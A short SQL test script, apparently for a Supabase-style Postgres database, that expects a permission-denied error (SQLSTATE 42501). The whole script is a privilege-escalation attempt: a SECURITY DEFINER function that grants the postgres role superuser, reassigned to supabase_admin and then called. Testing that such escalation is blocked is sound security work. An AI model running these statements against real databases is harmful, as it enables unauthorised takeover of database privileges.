-- finds: SQLSTATE 42501
-- Gives a function with the definer's rights to the superuser.
CREATE FUNCTION act() RETURNS void LANGUAGE sql SECURITY DEFINER AS 'ALTER ROLE postgres SUPERUSER';
ALTER FUNCTION act() OWNER TO supabase_admin;
SELECT act();
